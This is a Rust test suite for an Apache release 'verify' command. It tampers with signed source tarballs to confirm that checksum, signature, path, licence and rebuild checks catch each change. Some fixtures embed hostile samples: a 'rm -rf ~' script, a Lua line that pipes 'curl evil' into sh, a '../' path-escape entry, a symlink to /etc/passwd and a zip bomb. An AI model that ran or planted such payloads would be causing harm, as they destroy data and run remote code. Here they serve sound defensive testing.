// Licensed to the Apache Software Foundation (ASF) under one
// or more contributor license agreements.  See the NOTICE file
// distributed with this work for additional information
// regarding copyright ownership.  The ASF licenses this file
// to you under the Apache License, Version 2.0 (the
// "License"); you may not use this file except in compliance
// with the License.  You may obtain a copy of the License at
//
//   http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing,
// software distributed under the License is distributed on an
// "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY
// KIND, either express or implied.  See the License for the
// specific language governing permissions and limitations
// under the License.

//! End-to-end tests of `verify`: a real candidate made by `xtask package` with a generated key,
//! KEYS exported by gpg, real SVN repositories, and tarballs tampered with in every way a voter
//! must catch.

mod candidate;
mod common;

use std::io::{Read, Write};

use candidate::*;
use common::*;
use sha2::{Digest, Sha512};

#[test]
fn a_good_candidate_passes_with_a_checklist_json_and_vote_text() {
    let setup = setup();
    let output = setup.verify_from(&setup.candidate, &[]);
    assert_passes(&output);
    let text = stdout(&output);
    for needle in [
        "✓ checksum",
        "✓ files",
        "✓ signature",
        &format!("good signature by {}", setup.fingerprint),
        "Release Manager <rm@apache.org>",
        "✓ archive",
        "✓ paths",
        "✓ top-dir",
        "✓ license ",
        "✓ notice",
        "✓ binaries",
        "✓ license-headers",
        "✓ manifests",
        "· build",
        "the build was not checked (run verify with --build)",
        "summary: all 11 checks passed",
        "+1 (non-binding): checked checksum (sha512), candidate files, signature,",
        "the manifests load with `cargo xtask verify`; the build was not checked\n",
    ] {
        assert!(text.contains(needle), "{needle:?} in:\n{text}");
    }
    assert!(!text.contains("disclaimer"), "not incubating:\n{text}");

    let json = setup.verify_from(&setup.candidate, &["--json", "--binding"]);
    assert!(json.status.success(), "{}", stderr(&json));
    let report: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(report["passed"], true);
    assert_eq!(report["artifact"], TARBALL);
    let checks = report["checks"].as_array().unwrap();
    assert_eq!(checks.len(), 12);
    let (build, checked) = checks.split_last().unwrap();
    assert!(checked.iter().all(|c| c["status"] == "passed"), "{report}");
    assert_eq!(build["id"], "build");
    assert_eq!(build["status"], "not-asked");
    assert!(report["vote"]
        .as_str()
        .unwrap()
        .starts_with("+1 (binding): checked"));
    assert_eq!(report["keys_held"], 1, "{report}");

    // Relative --from and --keys are read from where the user stands.
    let output = setup.world.xtask(&[
        "--repo",
        setup.repo.to_str().unwrap(),
        "verify",
        "1.0.0",
        "--rc",
        "1",
        "--from",
        "candidate",
        "--keys",
        "KEYS",
    ]);
    assert_passes(&output);
    assert!(stdout(&output).contains(&format!("KEYS:      {} (1 key(s))", setup.keys.display())));
}

#[test]
fn a_good_candidate_passes_from_svn_and_a_missing_one_is_a_clear_error() {
    let setup = setup();
    let world = &setup.world;
    // The dist URLs come from the configuration.
    let url = setup.publish_dist(true);
    let repo = setup.repo.to_str().unwrap();
    let output = world.xtask(&["--repo", repo, "verify", "1.0.0", "--rc", "1", "--rebuild"]);
    assert_passes(&output);
    let text = stdout(&output);
    assert!(
        text.contains(&format!("candidate: {url}/dev/demo/1.0.0-rc1")),
        "{text}"
    );
    assert!(
        text.contains(&format!("KEYS:      {url}/release/demo/KEYS")),
        "{text}"
    );
    assert!(text.contains("reproducible: byte-identical"), "{text}");

    let explicit = world.xtask(&[
        "--repo",
        repo,
        "verify",
        "1.0.0",
        "--rc",
        "1",
        "--from",
        &format!("{url}/dev/demo/1.0.0-rc1/"),
        "--keys",
        &format!("{url}/release/demo/KEYS"),
    ]);
    assert_passes(&explicit);

    let dry = world.xtask(&["--repo", repo, "--dry-run", "verify", "1.0.0", "--rc", "1"]);
    assert!(dry.status.success(), "{}", stderr(&dry));
    let plan = stdout(&dry);
    assert!(
        plan.contains(&format!(
            "svn export --non-interactive --quiet -- {url}/dev/demo/1.0.0-rc1@"
        )),
        "{plan}"
    );
    assert!(plan.contains("--import"), "{plan}");
    assert!(plan.contains("--verify"), "{plan}");

    let missing = world.xtask(&["--repo", repo, "verify", "1.0.0", "--rc", "2"]);
    assert_fails_with(
        &missing,
        &[
            &format!("there is no candidate {url}/dev/demo/1.0.0-rc2 in dist/dev"),
            "the candidates of 1.0.0 there: RC1",
            "--from",
        ],
    );
}

#[test]
fn tampered_files_around_the_tarball_are_caught_and_named() {
    let setup = setup();
    let world = &setup.world;

    // One byte changed in the tarball.
    let dir = setup.copy("one-byte");
    let mut bytes = setup.tarball();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    std::fs::write(dir.join(TARBALL), bytes).unwrap();
    let output = setup.verify_from(&dir, &[]);
    assert_fails_with(
        &output,
        &[
            "✗ checksum",
            "the tarball's sha512 differs from",
            "✗ signature",
            "does not match the file",
            "-1 (non-binding): `cargo xtask verify` failed these checks: checksum, signature",
        ],
    );

    // A .sha512 of another file.
    let dir = setup.copy("other-checksum");
    let signature = std::fs::read(dir.join(format!("{TARBALL}.asc"))).unwrap();
    let digest = asf_release::archive::writer::hex(&Sha512::digest(&signature));
    std::fs::write(
        dir.join(format!("{TARBALL}.sha512")),
        format!("{digest}  {TARBALL}.asc\n"),
    )
    .unwrap();
    let output = setup.verify_from(&dir, &[]);
    assert_fails_with(
        &output,
        &[
            "✗ checksum",
            &format!("is the checksum of `{TARBALL}.asc`"),
            "✓ signature",
        ],
    );

    // A checksum in another format (`gpg --print-md`).
    let dir = setup.copy("print-md-checksum");
    std::fs::write(
        dir.join(format!("{TARBALL}.sha512")),
        format!("{TARBALL}: {} {}\n", &digest[..8], &digest[8..16]),
    )
    .unwrap();
    assert_fails_with(
        &setup.verify_from(&dir, &[]),
        &["✗ checksum", "is not in the checksum format"],
    );

    // A signature by a key that is in the user's keyring but not in KEYS.
    let mallory = world.generate_key("Mallory", "mallory@example.org");
    let dir = setup.copy("other-key");
    setup.sign(
        &mallory,
        &dir.join(TARBALL),
        &dir.join(format!("{TARBALL}.asc")),
    );
    assert_fails_with(
        &setup.verify_from(&dir, &[]),
        &["✗ signature", "is it in KEYS?", "✓ checksum"],
    );

    // A valid signature of a different file.
    let dir = setup.copy("other-file");
    setup.sign(
        &setup.fingerprint,
        &setup.repo.join("NOTICE"),
        &dir.join(format!("{TARBALL}.asc")),
    );
    assert_fails_with(
        &setup.verify_from(&dir, &[]),
        &["✗ signature", "does not match the file", "✓ checksum"],
    );

    // A KEYS without keys, and a candidate directory that does not exist.
    let empty_keys = world.path("EMPTY-KEYS");
    std::fs::write(&empty_keys, "pub   ed25519 2024-01-01 [SC]\n").unwrap();
    let repo = setup.repo.to_str().unwrap();
    let candidate = setup.candidate.to_str().unwrap();
    let args = [
        "--repo", repo, "verify", "1.0.0", "--rc", "1", "--from", candidate,
    ];
    let mut with_empty_keys = args.to_vec();
    with_empty_keys.extend(["--keys", empty_keys.to_str().unwrap()]);
    assert_fails_with(
        &world.xtask(&with_empty_keys),
        &["✗ signature", "holds no OpenPGP public key", "✓ checksum"],
    );
    let mut args = args.to_vec();
    args[7] = "no-such-dir";
    assert_fails_with(
        &world.xtask(&args),
        &["no-such-dir: no such directory", "SVN URL"],
    );

    // A missing signature, and MD5 / SHA-1 files next to the tarball.
    let dir = setup.copy("policy");
    std::fs::remove_file(dir.join(format!("{TARBALL}.asc"))).unwrap();
    std::fs::write(dir.join(format!("{TARBALL}.md5")), "d41d8cd9  x\n").unwrap();
    std::fs::write(dir.join(format!("{TARBALL}.sha1")), "da39a3ee  x\n").unwrap();
    assert_fails_with(
        &setup.verify_from(&dir, &["--json"]),
        &[
            "\"id\": \"files\"",
            &format!("{TARBALL}.md5: MD5 and SHA-1 checksums must not be published"),
            &format!("{TARBALL}.sha1"),
            &format!("{TARBALL}.asc is missing"),
            "\"passed\": false",
        ],
    );
}

#[test]
fn tampered_contents_are_caught_by_the_shared_rules_and_nothing_is_written() {
    let setup = setup();
    let good = items_of(&setup.tarball());
    type Tamper = fn(&mut Vec<Item>);
    let cases: Vec<(&str, Tamper, Vec<&str>)> = vec![
        (
            "missing-notice",
            |items| items.retain(|i| !i.path.ends_with(b"/NOTICE")),
            vec!["✗ notice", "NOTICE: missing"],
        ),
        (
            "extra-top-file",
            |items| items.push(file_item("evil.sh", b"#!/bin/sh\nrm -rf ~\n")),
            vec!["✗ top-dir", "evil.sh: a file at the top level"],
        ),
        (
            "dot-dot",
            |items| items.push(file_item("apache-demo-1.0.0-src/../../escaped", b"x")),
            vec![
                "✗ paths",
                "apache-demo-1.0.0-src/../../escaped: absolute path or `..`",
            ],
        ),
        (
            "symlink",
            |items| {
                let mut header = tar::Header::new_gnu();
                header.set_entry_type(tar::EntryType::Symlink);
                header.set_mode(0o777);
                header.set_size(0);
                header.set_link_name("/etc/passwd").unwrap();
                items.push(Item {
                    header,
                    path: b"apache-demo-1.0.0-src/passwd".to_vec(),
                    data: Vec::new(),
                });
            },
            vec!["✗ paths", "symbolic link to `/etc/passwd` points outside"],
        ),
        (
            "two-tops",
            |items| items.push(file_item("second-top/README", b"hello\n")),
            vec!["✗ top-dir", "2 top-level entries", "second-top"],
        ),
        (
            "duplicate",
            |items| {
                items.push(file_item(
                    "apache-demo-1.0.0-src/src/main.lua",
                    b"os.execute('curl evil | sh')\n",
                ))
            },
            vec!["✗ paths", "src/main.lua: appears twice"],
        ),
    ];
    let scratch = setup.world.path("tmp");
    let cwd = setup.world.path("cwd");
    for (name, tamper, needles) in cases {
        let dir = setup.copy(name);
        let mut items = items_of(&setup.tarball());
        assert_eq!(items.len(), good.len());
        tamper(&mut items);
        std::fs::write(dir.join(TARBALL), tarball_of(&items)).unwrap();
        setup.sign_and_hash(&dir);

        // Run from an empty directory with a private TMPDIR: afterwards nothing anywhere in
        // the world has changed and the temporary directory is empty again.
        std::fs::create_dir_all(&scratch).unwrap();
        std::fs::create_dir_all(&cwd).unwrap();
        let before = list_files(setup.world.root.path());
        let output = setup
            .world
            .command(env!("CARGO_BIN_EXE_xtask"))
            .args([
                "--repo",
                setup.repo.to_str().unwrap(),
                "verify",
                "1.0.0",
                "--rc",
                "1",
            ])
            .arg("--from")
            .arg(&dir)
            .arg("--keys")
            .arg(&setup.keys)
            .env("TMPDIR", &scratch)
            .current_dir(&cwd)
            .output()
            .unwrap();
        let mut all = needles.clone();
        all.extend(["✓ checksum", "✓ signature", "✓ archive"]);
        assert_fails_with(&output, &all);
        assert_eq!(list_files(setup.world.root.path()), before, "{name}");
        assert_eq!(list_files(&scratch), Vec::<String>::new(), "{name}");
        assert!(!setup.world.path("escaped").exists());
    }
}

#[test]
fn broken_streams_and_bombs_are_stopped_with_a_clear_error() {
    let setup = setup();

    let dir = setup.copy("truncated");
    let bytes = setup.tarball();
    std::fs::write(dir.join(TARBALL), &bytes[..bytes.len() * 2 / 3]).unwrap();
    setup.sign_and_hash(&dir);
    assert_fails_with(
        &setup.verify_from(&dir, &[]),
        &[
            "✓ checksum",
            "✓ signature",
            "✗ archive",
            "ends early",
            "- notice",
            "not checked: the archive could not be read in full",
        ],
    );

    // 64 MiB of zeros compress to a few dozen KiB; the limit stops the read long before.
    let dir = setup.copy("bomb");
    let mut items = items_of(&bytes);
    items.push(file_item(
        "apache-demo-1.0.0-src/zeros.txt",
        &vec![0u8; 64 * 1024 * 1024],
    ));
    let bomb = tarball_of(&items);
    assert!(bomb.len() < 1024 * 1024, "{}", bomb.len());
    std::fs::write(dir.join(TARBALL), bomb).unwrap();
    setup.sign_and_hash(&dir);
    assert_fails_with(
        &setup.verify_from(&dir, &["--max-unpacked-bytes", "8000000"]),
        &[
            "✗ archive",
            "more than 8000000 bytes (the size limit)",
            "compression bomb",
        ],
    );
}

#[test]
fn rebuild_tells_reproducible_from_recompressed_from_changed() {
    let setup = setup();
    let output = setup.verify_from(&setup.candidate, &["--rebuild"]);
    assert_passes(&output);
    let text = stdout(&output);
    assert!(
        text.contains("reproducible: byte-identical to the tarball rebuilt from tag 1.0.0-rc1"),
        "{text}"
    );
    assert!(
        text.contains("reproducible (rebuilt from the tag"),
        "{text}"
    );

    // The same tar, compressed by another gzip: same content, and the compressor is named.
    let dir = setup.copy("recompressed");
    let mut tar = Vec::new();
    flate2::read::GzDecoder::new(setup.tarball().as_slice())
        .read_to_end(&mut tar)
        .unwrap();
    let mut gzip = flate2::GzBuilder::new()
        .operating_system(3)
        .mtime(1_700_000_000)
        .write(Vec::new(), flate2::Compression::best());
    gzip.write_all(&tar).unwrap();
    std::fs::write(dir.join(TARBALL), gzip.finish().unwrap()).unwrap();
    setup.sign_and_hash(&dir);
    let output = setup.verify_from(&dir, &["--rebuild"]);
    assert_passes(&output);
    let text = stdout(&output);
    for needle in [
        "same content, different compressor",
        "OS byte 3 (Unix), XFL 2 (maximum compression), mtime 1700000000",
        "ours: xtask gzip: zlib-rs deflate level 6",
    ] {
        assert!(text.contains(needle), "{needle:?} in:\n{text}");
    }

    // A candidate built from a commit after the tag: the added file is named.
    let world = &setup.world;
    world.write(
        &setup.repo,
        "src/extra.lua",
        format!("{LUA_HEADER}return 'not in the tag'\n").as_bytes(),
    );
    world.git(&setup.repo, &["add", "-A"]);
    world.git(&setup.repo, &["commit", "-q", "-m", "After the tag"]);
    let later = world.path("later");
    package(world, &setup.repo, &later, &["--ref", "HEAD"]);
    let output = setup.verify_from(&later, &["--rebuild"]);
    assert_fails_with(
        &output,
        &[
            "✓ signature",
            "✓ license-headers",
            "✗ rebuild",
            "the candidate differs from the tarball rebuilt from tag 1.0.0-rc1",
            &format!("only in the candidate: {TOP}/src/extra.lua"),
        ],
    );
}

#[test]
fn rebuild_fetches_the_tag_from_the_remote() {
    let setup = setup();
    let world = &setup.world;
    let clone = world.path("clone");
    world.git(
        world.root.path(),
        &[
            "clone",
            "-q",
            "--no-tags",
            setup.repo.to_str().unwrap(),
            clone.to_str().unwrap(),
        ],
    );
    assert_eq!(world.git(&clone, &["tag"]), "", "the clone has no tag");
    let output = world.xtask(&[
        "--repo",
        clone.to_str().unwrap(),
        "verify",
        "1.0.0",
        "--rc",
        "1",
        "--from",
        setup.candidate.to_str().unwrap(),
        "--keys",
        setup.keys.to_str().unwrap(),
        "--rebuild",
    ]);
    assert_passes(&output);
    let text = stdout(&output);
    assert!(text.contains("tag 1.0.0-rc1 of `origin`"), "{text}");
    assert_eq!(world.git(&clone, &["tag"]), "", "no local tag was created");
}

#[test]
fn incubating_candidates_need_the_disclaimer_and_the_name_in_verify_and_package() {
    let setup = setup();
    let world = &setup.world;
    let repo = setup.repo.to_str().unwrap();
    let manifest = std::fs::read_to_string(setup.repo.join("Cargo.toml")).unwrap();

    // The project is incubating, but the candidate has neither DISCLAIMER nor the name.
    world.write(
        &setup.repo,
        "Cargo.toml",
        format!(
            "{manifest}incubating = true\nartifact = \"apache-{{name}}-{{version}}-src.tgz\"\n"
        )
        .as_bytes(),
    );
    assert_fails_with(
        &setup.verify_from(&setup.candidate, &[]),
        &[
            "✗ disclaimer",
            &format!("{TOP}/DISCLAIMER: missing"),
            "✗ incubating-name",
            &format!("{TARBALL}: an incubating release must have \"incubating\" in its file name"),
            "✓ signature",
        ],
    );
    // `package` refuses what `verify` flags: the rules are the same.
    let out = world.path("refused");
    let refused = world.xtask(&[
        "--repo",
        repo,
        "package",
        "1.0.0",
        "--rc",
        "1",
        "--no-sign",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_fails_with(&refused, &["[incubating-name]", "[disclaimer]"]);

    // With DISCLAIMER and the default incubating name, a new candidate passes.
    world.write(
        &setup.repo,
        "Cargo.toml",
        format!("{manifest}incubating = true\n").as_bytes(),
    );
    world.write(
        &setup.repo,
        "DISCLAIMER",
        b"Apache Demo is an effort undergoing incubation.\n",
    );
    world.git(&setup.repo, &["add", "-A"]);
    world.git(&setup.repo, &["commit", "-q", "-m", "Incubating"]);
    world.git(&setup.repo, &["tag", "1.0.0-rc2"]);
    let out = world.path("rc2");
    let output = world.xtask(&[
        "--repo",
        repo,
        "package",
        "1.0.0",
        "--rc",
        "2",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert!(output.status.success(), "{}", stderr(&output));
    let output = world.xtask(&[
        "--repo",
        repo,
        "verify",
        "1.0.0",
        "--rc",
        "2",
        "--from",
        out.to_str().unwrap(),
        "--keys",
        setup.keys.to_str().unwrap(),
        "--rebuild",
    ]);
    assert_passes(&output);
    let text = stdout(&output);
    assert!(
        text.contains("apache-demo-1.0.0-incubating-src.tgz (1.0.0 RC2)"),
        "{text}"
    );
    assert!(text.contains("✓ disclaimer"), "{text}");
    assert!(text.contains("✓ incubating-name"), "{text}");
    assert!(text.contains("reproducible"), "{text}");
}

/// The version strings of the configured version-files are checked inside the candidate.
#[test]
fn version_files_inside_the_candidate_must_carry_the_version() {
    let setup = setup();
    let world = &setup.world;
    let manifest = std::fs::read_to_string(setup.repo.join("Cargo.toml")).unwrap();
    let with_files = format!(
        "{manifest}version-files = [{{ path = \"src/main.lua\", pattern = \"-- version {{version}}\" }}]\n"
    );
    world.write(&setup.repo, "Cargo.toml", with_files.as_bytes());
    let output = setup.verify_from(&setup.candidate, &[]);
    assert!(!output.status.success(), "{}", stdout(&output));
    let text = stdout(&output);
    assert!(text.contains("✗ version"), "{text}");
    assert!(text.contains("src/main.lua"), "{text}");

    // A candidate whose file carries the version passes the check.
    let main = std::fs::read_to_string(setup.repo.join("src/main.lua")).unwrap();
    world.write(
        &setup.repo,
        "src/main.lua",
        format!("{main}-- version 1.0.0\n").as_bytes(),
    );
    world.git(&setup.repo, &["add", "-A"]);
    world.git(&setup.repo, &["commit", "-q", "-m", "Version 1.0.0"]);
    let fixed = world.path("fixed");
    package(world, &setup.repo, &fixed, &["--ref", "HEAD"]);
    let output = setup.verify_from(&fixed, &[]);
    let text = stdout(&output);
    assert!(text.contains("✓ version"), "{text}");
    assert!(output.status.success(), "{text}");
}
